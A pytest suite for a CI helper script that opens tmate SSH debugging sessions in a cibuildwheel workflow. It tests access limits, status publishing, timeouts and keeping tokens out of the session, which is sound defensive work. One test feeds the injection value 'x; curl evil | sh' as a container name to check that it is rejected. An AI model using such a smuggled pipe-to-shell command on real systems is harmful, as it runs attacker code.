"""The SSH session helper the workflow writes and runs: who gets in, what it publishes whatever
happens, what the session holds, and that it never waits forever."""

import json
import os
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from workflow_harness import (
    GHES_WORKFLOW,
    WORKFLOW,
    load_workflow,
    make_msys2,
    prepare_script,
    run_script,
    step,
)

from cibw_debug_tui.core import workflow_contract as contract

KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFakeKeyForTestsOnly octocat@laptop"
SECRET = "sk-ant-FAKE-SECRET-0123456789"
TOKEN = "ghs_faketoken0123456789"
BIN = Path(sys.executable).parent


def write_helper(tmp: Path) -> Path:
    """Run the real 'Write the SSH session helper' step; return the helper it wrote."""
    result = run_script(step("debug", "helper")["run"], {}, tmp)
    assert result.returncode == 0, result.stderr
    helper = tmp / "runner-temp" / "cibw-debug" / "ssh-session.sh"
    assert helper.exists()
    return helper


def helper_env(**env: str) -> dict[str, str]:
    base = {
        "ACTOR": "octocat",
        "GH_TOKEN": TOKEN,
        "IDENTIFIER": "cp312-manylinux_x86_64",
        "PACKAGE_DIR": ".",
        "SESSION_TIMEOUT": "30",
        "CIBW_BUILD": "cp312-manylinux_x86_64",
        "POLL_SECONDS": "0.05",
        "FAKE_KEYS": KEY,
    }
    return {**base, **env}


def run_helper(tmp: Path, *args: str, absent: tuple[str, ...] = (), **env: str):
    helper = write_helper(tmp)
    return run_script(
        f'exec bash "{helper}" "$@"', helper_env(**env), tmp, list(args), absent=absent
    )


def windows_env(tmp: Path, **env: str) -> dict[str, str]:
    return {"RUNNER_OS": "Windows", "MSYS2_LOCATION": str(make_msys2(tmp / "msys64")), **env}


def cibw_debug(tmp: Path) -> Path:
    return tmp / "runner-temp" / "cibw-debug"


def connection(tmp: Path, stage: str) -> dict:
    path = cibw_debug(tmp) / contract.connection_file(stage)
    return json.loads(path.read_text(encoding="utf-8"))


def state(tmp: Path, name: str) -> str:
    return (tmp / "state" / name).read_text(encoding="utf-8")


# -- opening: who gets in, and what is published -------------------------------------------


def test_open_publishes_the_connection_for_the_actors_keys_only(tmp_path):
    before = int(time.time())
    result = run_helper(tmp_path, "open", "before-build")
    assert result.returncode == 0, result.stderr
    data = connection(tmp_path, "before-build")
    assert data["status"] == "open" and data["format"] == contract.CONNECTION_FORMAT
    assert data["stage"] == "before-build"
    assert data["ssh"] == "ssh FAKEtmateTOKEN123@nyc1.tmate.io"
    assert data["actor"] == "octocat"
    assert data["timeout_minutes"] == 30
    assert data["continue_command"] == f'touch "{tmp_path}/continue"'
    assert data["docker_exec"] is None
    assert data["rebuild"].startswith(f"{contract.REBUILD_COMMAND}  # build cp312-manylinux_x86_64")
    opened = time.mktime(time.strptime(data["opened_at"], "%Y-%m-%dT%H:%M:%SZ")) - time.timezone
    expires = time.mktime(time.strptime(data["expires_at"], "%Y-%m-%dT%H:%M:%SZ")) - time.timezone
    assert before - 1 <= opened <= time.time() + 1
    assert expires - opened == 30 * 60
    # tmate was started with -a and exactly the actor's keys, read through every page.
    assert state(tmp_path, "tmate-authorized-keys").strip() == KEY
    assert " -a " in state(tmp_path, "tmate.log").splitlines()[0]
    assert "api --paginate users/octocat/keys" in state(tmp_path, "gh.log")
    assert result.outputs["connection"].endswith("connection-before-build.json")
    assert "::notice title=SSH session open (before-build)::ssh FAKEtmate" in result.stdout


@pytest.mark.parametrize("keys", ["", "\n\n"])
def test_no_keys_on_the_profile_refuses_the_session(tmp_path, keys):
    result = run_helper(tmp_path, "open", "after-failure", FAKE_KEYS=keys)
    assert result.returncode == 1
    assert "::error title=SSH session refused (after-failure)::No public SSH keys" in result.stdout
    data = connection(tmp_path, "after-failure")
    assert data["status"] == "refused" and data["ssh"] is None
    assert "github.com/settings/keys" in data["message"]
    assert not (tmp_path / "state" / "tmate.log").exists(), "tmate must never start"


def test_unreadable_keys_refuse_the_session(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", FAKE_GH_FAIL="1")
    assert result.returncode == 1
    assert connection(tmp_path, "before-build")["status"] == "refused"
    assert "HTTP 502" in connection(tmp_path, "before-build")["message"]
    assert not (tmp_path / "state" / "tmate.log").exists()


@pytest.mark.parametrize(
    ("identifier", "container", "shell"),
    [
        ("cp312-manylinux_x86_64", "cibuildwheel-1a2b3c", "bash"),
        ("cp312-manylinux_i686", "cibuildwheel-1a2b3c", "linux32 bash"),
        ("cp313-manylinux_armv7l", "cibuildwheel-4d5e", "linux32 bash"),
    ],
)
def test_after_failure_on_linux_offers_docker_exec_into_the_kept_container(
    tmp_path, identifier, container, shell
):
    result = run_helper(
        tmp_path, "open", "after-failure", IDENTIFIER=identifier, FAKE_CONTAINER=container
    )
    assert result.returncode == 0, result.stderr
    assert connection(tmp_path, "after-failure")["docker_exec"] == (
        f"docker start {container} >/dev/null && docker exec -it {container} {shell}"
    )


def test_a_container_name_that_is_not_cibuildwheels_is_never_offered(tmp_path):
    result = run_helper(tmp_path, "open", "after-failure", FAKE_CONTAINER="x; curl evil | sh")
    assert result.returncode == 0, result.stderr
    assert connection(tmp_path, "after-failure")["docker_exec"] is None


# -- every failure publishes a status --------------------------------------------------------


def test_a_tmate_that_never_becomes_ready_fails_the_session_in_bounded_time(tmp_path):
    started = time.monotonic()
    result = run_helper(
        tmp_path, "open", "before-build", FAKE_TMATE_NEVER_READY="1", TMATE_READY_SECONDS="1"
    )
    assert time.monotonic() - started < 30
    assert result.returncode == 1
    data = connection(tmp_path, "before-build")
    assert data["status"] == "failed" and data["ssh"] is None
    assert "did not reach its server (tmate.io) within 1 s" in data["message"]
    assert "::error title=SSH session failed (before-build)::tmate did not reach" in result.stdout
    assert (tmp_path / "state" / "killed").exists(), "the half-started tmate is stopped"
    log = state(tmp_path, "tmate.log")
    assert "wait tmate-ready" not in log and "display -p #{tmate_ssh}" in log


def test_a_tmate_that_quits_at_once_fails_the_session(tmp_path):
    # tmate#63: `new-session -d` succeeds while the server is already gone.
    result = run_helper(tmp_path, "open", "after-failure", FAKE_TMATE_QUITS="1")
    assert result.returncode == 1
    data = connection(tmp_path, "after-failure")
    assert data["status"] == "failed" and "tmate quit before it reached" in data["message"]


def test_an_unexpected_failure_still_publishes_the_line_and_command(tmp_path):
    write_helper(tmp_path)
    (cibw_debug(tmp_path) / "bin").write_text("a file where a folder should be")
    result = run_helper(tmp_path, "open", "before-build")
    assert result.returncode == 1
    data = connection(tmp_path, "before-build")
    assert data["status"] == "failed"
    assert "line " in data["message"] and "mkdir -p" in data["message"]
    assert not (tmp_path / "state" / "tmate.log").exists()


def test_a_step_stopped_midway_leaves_a_failed_status_to_publish(tmp_path):
    """The runner kills the step at its time limit or on cancel: no trap runs then."""
    helper = write_helper(tmp_path)
    env = helper_env(FAKE_TMATE_NEVER_READY="1", TMATE_READY_SECONDS="600")
    argv, full_env = prepare_script(
        f'exec bash "{helper}" "$@"', env, tmp_path, ["open", "before-build"]
    )
    proc = subprocess.Popen(argv, cwd=tmp_path, env=full_env, start_new_session=True)
    try:
        deadline = time.monotonic() + 30
        log = tmp_path / "state" / "tmate.log"
        while "display" not in (log.read_text() if log.exists() else ""):
            assert proc.poll() is None and time.monotonic() < deadline
            time.sleep(0.05)
    finally:
        os.killpg(proc.pid, signal.SIGKILL)
        proc.wait()
    data = connection(tmp_path, "before-build")
    assert data["status"] == "failed" and "step was stopped" in data["message"]


# -- installing tmate never breaks or changes the build ---------------------------------------


def test_linux_installs_tmate_when_missing(tmp_path):
    result = run_helper(tmp_path, "open", "after-failure", absent=("tmate",))
    assert result.returncode == 0, result.stderr
    installs = state(tmp_path, "installs.log")
    assert (
        "apt-get update -qq" in installs
        and "install -y -qq --no-install-recommends tmate" in installs
    )
    assert connection(tmp_path, "after-failure")["status"] == "open"


@pytest.mark.parametrize(("runner_os", "manager"), [("Linux", "apt-get"), ("macOS", "brew")])
def test_a_failed_install_is_a_failed_session_with_the_reason(tmp_path, runner_os, manager):
    result = run_helper(
        tmp_path, "open", "after-failure", absent=("tmate",), RUNNER_OS=runner_os,
        FAKE_INSTALL_FAIL="1",
    )  # fmt: skip
    assert result.returncode == 1
    data = connection(tmp_path, "after-failure")
    assert data["status"] == "failed"
    assert "tmate could not be installed" in data["message"] and manager in data["message"]
    assert "Unable to locate package tmate" in data["message"]


def test_homebrew_neither_updates_itself_nor_upgrades_dependents(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", absent=("tmate",), RUNNER_OS="macOS")
    assert result.returncode == 0, result.stderr
    assert state(tmp_path, "installs.log").splitlines() == ["brew install tmate|1|1"]


def test_tmate_is_installed_in_the_open_step_not_before_the_build():
    steps = load_workflow()["jobs"]["debug"]["steps"]
    names = [s["name"] for s in steps]
    build = next(i for i, s in enumerate(steps) if s.get("id") == "build")
    for s in steps[:build]:
        assert "tmate" not in s.get("run", "") or s.get("id") == "helper", s["name"]
        if 'ssh-session.sh" open' in s.get("run", ""):
            assert s["if"] == "needs.validate.outputs.ssh-before == 'true'", s["name"]
    assert not any(name.startswith("Install tmate") for name in names)


# -- Windows: the logic, run under bash with MSYS2 and cygpath stand-ins ----------------------


def test_windows_starts_tmate_through_msys2_with_the_callers_path(tmp_path):
    result = run_helper(tmp_path, "open", "after-failure", **windows_env(tmp_path))
    assert result.returncode == 0, result.stderr
    calls = state(tmp_path, "msys2-bash.log").splitlines()
    assert any("pacman -S --noconfirm --needed tmate" in c for c in calls)
    assert not any("-Sy" in c for c in calls), "no upgrade of MSYS2's packages"
    started = [c for c in calls if "new-session" in c]
    assert started and started[0].startswith("inherit|1|MINGW64|-lc")
    assert connection(tmp_path, "after-failure")["runner_os"] == "Windows"


def test_windows_without_msys2_says_so_in_the_connection_file(tmp_path):
    env = {"RUNNER_OS": "Windows", "MSYS2_LOCATION": str(tmp_path / "no-msys64")}
    result = run_helper(tmp_path, "open", "before-build", **env)
    assert result.returncode == 1
    data = connection(tmp_path, "before-build")
    assert data["status"] == "failed"
    assert "no MSYS2" in data["message"] and "windows-11-arm" in data["message"]


def test_windows_pacman_failure_is_a_failed_session(tmp_path):
    env = windows_env(tmp_path, FAKE_INSTALL_FAIL="1")
    result = run_helper(tmp_path, "open", "before-build", **env)
    assert result.returncode == 1
    assert "pacman -S tmate failed" in connection(tmp_path, "before-build")["message"]


def test_windows_wait_sees_the_person_quit_without_starting_msys2_each_poll(tmp_path):
    env = windows_env(tmp_path)
    assert run_helper(tmp_path, "open", "after-failure", **env).returncode == 0
    calls_before = len(state(tmp_path, "msys2-bash.log").splitlines())
    (cibw_debug(tmp_path) / "tmate-after-failure.sock").unlink()  # the last shell exited
    result = run_helper(tmp_path, "wait", "after-failure", **env)
    assert result.returncode == 0 and "session was closed" in result.stdout
    calls = state(tmp_path, "msys2-bash.log").splitlines()[calls_before:]
    assert len(calls) == 1 and "kill-server" in calls[0]


# -- what the session holds --------------------------------------------------------------------


def test_the_tmate_daemon_holds_no_pipe_of_the_step(tmp_path):
    assert run_helper(tmp_path, "open", "before-build").returncode == 0
    stdout = state(tmp_path, "session-stdout").strip()
    assert stdout == str(cibw_debug(tmp_path) / "tmate-before-build.log")


def test_the_session_environment_holds_no_token_and_no_api_key(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", ANTHROPIC_API_KEY=SECRET)
    assert result.returncode == 0, result.stderr
    session_env = dict(
        line.split("=", 1) for line in state(tmp_path, "session-env").splitlines() if "=" in line
    )
    assert "GH_TOKEN" not in session_env and "ANTHROPIC_API_KEY" not in session_env
    assert session_env["CIBW_BUILD"] == "cp312-manylinux_x86_64"  # the build settings are there
    data = connection(tmp_path, "before-build")
    assert "ANTHROPIC_API_KEY" in data["claude"] and "claude login" not in data["claude"]
    for text in (result.stdout, result.stderr, json.dumps(data), result.env_file):
        assert SECRET not in text and TOKEN not in text


def test_the_claude_wrapper_reads_the_key_from_a_private_file(tmp_path):
    assert run_helper(tmp_path, "open", "after-failure", ANTHROPIC_API_KEY=SECRET).returncode == 0
    key_file = cibw_debug(tmp_path) / "anthropic-api-key"
    assert stat.S_IMODE(key_file.stat().st_mode) == 0o600
    real = tmp_path / "npm-global"
    real.mkdir()
    (real / "claude").write_text('#!/usr/bin/env bash\necho "key=${ANTHROPIC_API_KEY:-none} $*"\n')
    (real / "claude").chmod(0o755)
    wrapper = cibw_debug(tmp_path) / "bin" / "claude"
    path = f"{wrapper.parent}:{real}:/usr/bin:/bin"
    env = {"PATH": path, "HOME": str(tmp_path)}
    out = subprocess.run([wrapper, "-p", "hi"], env=env, capture_output=True, text=True, check=True)
    assert out.stdout.strip() == f"key={SECRET} -p hi"
    # Everything else in the session runs without it.
    other = subprocess.run(["bash", "-c", "echo ${ANTHROPIC_API_KEY:-none}"], env=env,
                           capture_output=True, text=True, check=True)  # fmt: skip
    assert other.stdout.strip() == "none"


def test_the_claude_wrapper_says_when_claude_is_not_installed_yet(tmp_path):
    assert run_helper(tmp_path, "open", "after-failure").returncode == 0
    wrapper = cibw_debug(tmp_path) / "bin" / "claude"
    env = {"PATH": f"{wrapper.parent}:/usr/bin:/bin", "HOME": str(tmp_path)}
    out = subprocess.run([wrapper], env=env, capture_output=True, text=True, check=False)
    assert out.returncode == 127 and "not installed yet" in out.stderr


def test_empty_anthropic_secret_leaves_no_key_file(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", ANTHROPIC_API_KEY="")
    assert result.returncode == 0, result.stderr
    assert not (cibw_debug(tmp_path) / "anthropic-api-key").exists()
    assert "claude login" in connection(tmp_path, "before-build")["claude"]


def session_shell_startup(tmp: Path) -> str:
    """What a shell in the session prints as it starts (tmate's default-command), and its PATH."""
    args = state(tmp, "session-args").splitlines()
    command = args[args.index("default-command") + 1]
    assert command.startswith("bash --rcfile ")
    rc = command.removeprefix("bash --rcfile ")
    return subprocess.run(
        ["bash", "-c", f'source {rc}; echo "PATH=$PATH"'],
        env={"PATH": "/usr/bin:/bin"}, capture_output=True, text=True, check=True,
    ).stdout  # fmt: skip


@pytest.mark.parametrize(
    ("runner_os", "stage", "container", "says"),
    [
        ("Linux", "before-build", "", "Nothing is built yet"),
        ("Linux", "after-failure", "cibuildwheel-9f8e", "docker exec -it cibuildwheel-9f8e bash"),
        ("Linux", "after-failure", "", "No kept build container"),
        ("macOS", "after-failure", "", "cibuildwheel deleted its build folder"),
    ],
)
def test_the_session_banner_says_what_exists_and_what_must_be_rebuilt(
    tmp_path, runner_os, stage, container, says
):
    result = run_helper(tmp_path, "open", stage, RUNNER_OS=runner_os, FAKE_CONTAINER=container)
    assert result.returncode == 0, result.stderr
    shown = session_shell_startup(tmp_path)
    assert says in shown
    assert f"{contract.REBUILD_COMMAND}     build cp312-manylinux_x86_64 again" in shown
    path = shown.split("PATH=")[-1].split(":")
    assert path[:2] == [str(cibw_debug(tmp_path) / "bin"), str(tmp_path / "fake-bin")]


FAKE_CIBUILDWHEEL = """\
import os, shutil, sys, tempfile
from pathlib import Path

tmp = Path(tempfile.mkdtemp(prefix="cibw-run-"))
try:
    (tmp / "built.txt").write_text(os.environ["CIBW_BUILD"] + " " + " ".join(sys.argv[1:]))
    print("building", os.environ["CIBW_BUILD"])
    sys.exit(int(os.environ.get("FAKE_EXIT", "0")))
finally:
    shutil.rmtree(tmp)  # as cibuildwheel does in `finally`
"""


@pytest.mark.parametrize("exit_code", [0, 1])
def test_cibw_rebuild_builds_again_and_keeps_the_build_folder(tmp_path, exit_code):
    assert run_helper(tmp_path, "open", "after-failure", RUNNER_OS="macOS").returncode == 0
    package = tmp_path / "fake-site" / "cibuildwheel"
    package.mkdir(parents=True)
    (package / "__init__.py").write_text("")
    (package / "__main__.py").write_text(FAKE_CIBUILDWHEEL)
    env = {
        "PATH": f"{tmp_path / 'fake-bin'}:/usr/bin:/bin",
        "PYTHONPATH": str(tmp_path / "fake-site"),
        "TMPDIR": str(tmp_path / "tmp"),
        "GITHUB_WORKSPACE": str(tmp_path),
        "PACKAGE_DIR": "pkg",
        "CIBW_BUILD": "cp312-macosx_arm64",
        "FAKE_EXIT": str(exit_code),
    }
    (tmp_path / "tmp").mkdir()
    rebuild = cibw_debug(tmp_path) / "bin" / contract.REBUILD_COMMAND
    out = subprocess.run([rebuild], env=env, capture_output=True, text=True, check=False)
    assert out.returncode == exit_code, out.stderr
    kept = list((tmp_path / "tmp").glob("cibw-run-*"))
    assert len(kept) == 1
    built = (kept[0] / "built.txt").read_text()
    assert built == "cp312-macosx_arm64 pkg --output-dir wheelhouse"
    assert f"build folder is kept: {kept[0]}" in out.stdout
    assert "building cp312-macosx_arm64" in (tmp_path / "logs" / "rebuild.log").read_text()


# -- waiting -----------------------------------------------------------------------------------


def test_wait_ends_when_the_continue_file_appears(tmp_path):
    assert run_helper(tmp_path, "open", "before-build", ANTHROPIC_API_KEY=SECRET).returncode == 0
    (tmp_path / "continue").touch()
    result = run_helper(tmp_path, "wait", "before-build")
    assert result.returncode == 0, result.stderr
    assert "Continue file found" in result.stdout
    assert not (tmp_path / "continue").exists(), "a stale file would end the next session at once"
    assert (tmp_path / "state" / "killed").exists()
    assert not (cibw_debug(tmp_path) / "anthropic-api-key").exists()


def test_wait_ends_when_the_person_quits_tmate(tmp_path):
    assert run_helper(tmp_path, "open", "after-failure").returncode == 0
    (cibw_debug(tmp_path) / "tmate-after-failure.sock").unlink()  # tmate removes it on exit
    result = run_helper(tmp_path, "wait", "after-failure")
    assert result.returncode == 0 and "session was closed" in result.stdout


def test_wait_ends_at_the_timeout(tmp_path):
    assert run_helper(tmp_path, "open", "after-failure").returncode == 0
    expires = cibw_debug(tmp_path) / "expires-after-failure"
    assert int(expires.read_text()) - time.time() == pytest.approx(30 * 60, abs=5)
    expires.write_text(str(int(time.time()) - 1))
    result = run_helper(tmp_path, "wait", "after-failure")
    assert result.returncode == 0
    assert "::warning title=SSH session timed out::" in result.stdout
    assert (tmp_path / "state" / "killed").exists()


def test_open_removes_a_stale_continue_file(tmp_path):
    (tmp_path / "continue").touch()
    assert run_helper(tmp_path, "open", "after-failure").returncode == 0
    assert not (tmp_path / "continue").exists()


# -- the helper, and the commands it writes, pass shellcheck -----------------------------------


def test_shellcheck_on_the_helper_and_the_session_commands(tmp_path):
    assert run_helper(tmp_path, "open", "after-failure").returncode == 0
    scripts = [cibw_debug(tmp_path) / name for name in ("ssh-session.sh", "bin/claude")]
    scripts.append(cibw_debug(tmp_path) / "bin" / contract.REBUILD_COMMAND)
    proc = subprocess.run(
        [BIN / "shellcheck", "--shell=bash", "--severity=style", *scripts],
        capture_output=True,
        text=True,
        check=False,
    )
    assert proc.returncode == 0, proc.stdout


# -- the workflow's wiring ---------------------------------------------------------------------


@pytest.mark.parametrize("workflow", [WORKFLOW, GHES_WORKFLOW], ids=["github.com", "ghes"])
@pytest.mark.parametrize("stage", contract.STAGES)
def test_sessions_are_wired_for_the_dispatching_actor_with_timeouts(stage, workflow):
    steps = load_workflow(workflow)["jobs"]["debug"]["steps"]
    short = "before" if stage == contract.BEFORE_BUILD else "after"
    at = next(i for i, s in enumerate(steps) if s.get("id") == f"ssh-{short}")
    opener, publish, claude, waiter = steps[at : at + 4]
    assert opener["run"].endswith(f" open {stage}")
    assert opener["env"]["ACTOR"] == "${{ github.triggering_actor }}"
    assert "secrets.ANTHROPIC_API_KEY" in opener["env"]["ANTHROPIC_API_KEY"]
    # A session never stops the build nor fails the job, and never waits past its limit.
    for part in (opener, publish, claude, waiter):
        assert part["continue-on-error"] is True, part["name"]
    assert 0 < opener["timeout-minutes"] <= 15
    # Published right after the session opens, and also when it was refused or failed.
    if workflow == WORKFLOW:
        assert publish["uses"].startswith("actions/upload-artifact@")
        assert publish["with"]["retention-days"] == 1
    else:
        assert "/check-runs" in publish["run"] and publish["env"]["STAGE"] == stage
    assert publish["if"] == f"always() && steps.ssh-{short}.outcome != 'skipped'"
    ran = f"steps.ssh-{short}.outcome == 'success'"
    assert claude["if"] == ran and claude["continue-on-error"] is True
    assert "@anthropic-ai/claude-code" in claude["run"]
    assert waiter["if"] == ran and waiter["run"].endswith(f" wait {stage}")
    assert waiter["timeout-minutes"] <= 61
    build = next(i for i, s in enumerate(steps) if s.get("id") == "build")
    assert (at < build) == (stage == contract.BEFORE_BUILD)
    if stage == contract.AFTER_FAILURE:
        assert "steps.build.outcome == 'failure'" in opener["if"]


# -- GitHub Enterprise Server: gh asks that server, the connection goes into a check run -----

GHES_RUN = {
    "GITHUB_SERVER_URL": "https://ghes.example",
    "GITHUB_REPOSITORY": "octo/pkg",
    "GITHUB_RUN_ID": "21000000042",
    "GITHUB_RUN_ATTEMPT": "2",
    "GITHUB_SHA": "0123456789abcdef0123456789abcdef01234567",
}


def gh_env(tmp: Path) -> dict[str, str]:
    return dict(line.split("=", 1) for line in state(tmp, "gh-env").splitlines() if "=" in line)


def publish_on_ghes(tmp: Path, stage: str, **env: str):
    """Open a session with the helper, as on GHES, then run the GHES variant's publish step."""
    opened = run_helper(tmp, "open", stage, **GHES_RUN, **env)
    publish = step("debug", contract.publish_step(stage), GHES_WORKFLOW)
    assert publish["env"] == {"GH_TOKEN": "${{ github.token }}", "STAGE": stage}
    return opened, run_script(publish["run"], {**helper_env(**GHES_RUN, **env), "STAGE": stage,
                                               "GH_TOKEN": TOKEN}, tmp)  # fmt: skip


def test_on_ghes_the_helper_reads_the_keys_from_that_server_and_drops_its_token(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", **GHES_RUN)
    assert result.returncode == 0, result.stderr
    asked = gh_env(tmp_path)
    assert (asked["GH_HOST"], asked["GH_ENTERPRISE_TOKEN"]) == ("ghes.example", TOKEN)
    session_env = state(tmp_path, "session-env")
    assert "GH_ENTERPRISE_TOKEN" not in session_env and TOKEN not in session_env


def test_on_github_com_the_helper_leaves_gh_on_github_com(tmp_path):
    result = run_helper(tmp_path, "open", "before-build", GITHUB_SERVER_URL="https://github.com")
    assert result.returncode == 0, result.stderr
    assert "GH_HOST" not in gh_env(tmp_path) and "GH_ENTERPRISE_TOKEN" not in gh_env(tmp_path)


@pytest.mark.parametrize("stage", contract.STAGES)
def test_the_ghes_variant_publishes_the_connection_in_a_check_run(tmp_path, stage):
    opened, result = publish_on_ghes(tmp_path, stage)
    assert (opened.returncode, result.returncode) == (0, 0), result.stdout + result.stderr
    body_file = cibw_debug(tmp_path) / f"check-run-{stage}.json"
    assert state(tmp_path, "gh.log").splitlines()[-1] == (
        f"api --method POST repos/octo/pkg/check-runs --input {body_file} --jq .html_url"
    )
    body = json.loads(state(tmp_path, "check-run-1.json"))
    assert body["name"] == contract.ssh_check_run(21000000042, stage, 2)
    assert (body["head_sha"], body["status"], body["conclusion"]) == (
        GHES_RUN["GITHUB_SHA"], "completed", "neutral")  # fmt: skip
    assert body["details_url"] == "https://ghes.example/octo/pkg/actions/runs/21000000042"
    assert body["output"]["title"] == f"SSH session open ({stage})"
    start, end = contract.CHECK_RUN_JSON
    text = body["output"]["text"]
    assert text.startswith(start) and text.endswith(end)
    assert json.loads(text[len(start) : -len(end)]) == connection(tmp_path, stage)
    asked = gh_env(tmp_path)
    assert (asked["GH_HOST"], asked["GH_ENTERPRISE_TOKEN"]) == ("ghes.example", TOKEN)
    assert "Published the" in result.stdout and TOKEN not in result.stdout + result.stderr


def test_the_ghes_variant_publishes_a_refused_session_too(tmp_path):
    opened, result = publish_on_ghes(tmp_path, "after-failure", FAKE_KEYS="")
    assert (opened.returncode, result.returncode) == (1, 0), result.stdout + result.stderr
    body = json.loads(state(tmp_path, "check-run-1.json"))
    assert body["output"]["title"] == "SSH session refused (after-failure)"
    assert "No public SSH keys" in body["output"]["summary"]


def test_the_ghes_variant_says_when_there_is_nothing_to_publish(tmp_path):
    publish = step("debug", contract.publish_step("before-build"), GHES_WORKFLOW)
    result = run_script(publish["run"], {**GHES_RUN, "STAGE": "before-build", "GH_TOKEN": TOKEN},
                        tmp_path)  # fmt: skip
    assert result.returncode == 1
    assert "::error title=No connection file (before-build)::" in result.stdout
    assert not (tmp_path / "state" / "gh.log").exists()


def test_a_check_run_the_server_refuses_fails_the_publish_step(tmp_path):
    opened, _ = publish_on_ghes(tmp_path, "before-build")
    publish = step("debug", contract.publish_step("before-build"), GHES_WORKFLOW)
    env = {**helper_env(**GHES_RUN), "STAGE": "before-build", "FAKE_GH_FAIL": "1"}
    result = run_script(publish["run"], env, tmp_path)
    assert opened.returncode == 0 and result.returncode == 1  # continue-on-error keeps the job
    assert "HTTP 502" in result.stderr
